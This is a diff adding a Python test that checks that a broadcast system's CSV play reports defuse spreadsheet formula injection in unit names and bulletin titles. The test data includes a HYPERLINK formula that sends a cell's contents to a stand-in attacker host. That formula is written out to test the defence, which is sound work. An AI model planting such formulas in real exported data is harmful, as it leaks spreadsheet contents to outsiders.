@@ -18,6 +18,7 @@ from edge_agent.errors import SinkError
 from edge_agent.hardware import Hardware, PlayResult
 from firmware_sim.hardware import SimAmplifier, SimAudioSink, SimVolume
 from protocol.manifest import PlayItem
+from tests.support.tree import add_unit
 from tests.support.waiting import poll
 from tests.telemetry.conftest import TelemetryRig
 
@@ -118,3 +119,29 @@ def test_report_counts_scheduled_completed_failed_for_a_unit(rig: TelemetryRig,
     csv_text = Path(download.value.path()).read_text(encoding="utf-8-sig")
     assert csv_text.splitlines()[-1].startswith("tinh-r,")
     page.close()
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Xem chi tiết")'
+
+
+def test_report_csv_defuses_spreadsheet_formulas(rig: TelemetryRig) -> None:
+    """A unit name or bulletin title a spreadsheet would run comes out as text ('=...); the
+    monitoring page's CSV link writes the same file (``telemetry.csvout.report_csv``)."""
+    stack = rig.stack
+    province = add_unit(stack.api, "tinh-f", "province", name="+Tỉnh F")
+    commune = add_unit(stack.api, "xa-f", "commune", province, name=FORMULA)
+    stack.devices(commune, "loa-f-off")  # registered; its plays stay scheduled
+    bulletin = stack.audio_bulletin(1.0, title="@Bản tin " + FORMULA)
+    start = datetime.now(UTC).replace(microsecond=0) + timedelta(minutes=30)
+    schedule = stack.post("/api/v1/schedules", {
+        "bulletin_id": bulletin["id"], "start_at": start.isoformat(),
+        "targets": {"unit_ids": [commune["id"]]}})
+    poll(lambda: stack.plays(schedule_id=schedule["id"]), lambda plays: len(plays) == 1, 20,
+         "the scheduled play")
+    r = stack.api.get("/api/v1/monitoring/reports/plays", params={
+        "unit_id": province["id"], "start": (start - timedelta(hours=1)).isoformat(),
+        "end": (start + timedelta(hours=1)).isoformat(), "format": "csv"})
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+    row, total = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
+    assert (row["unit_name"], row["bulletin_title"]) == ("'" + FORMULA, "'@Bản tin " + FORMULA)
+    assert (total["unit_name"], total["scheduled"]) == ("'+Tỉnh F", "1")
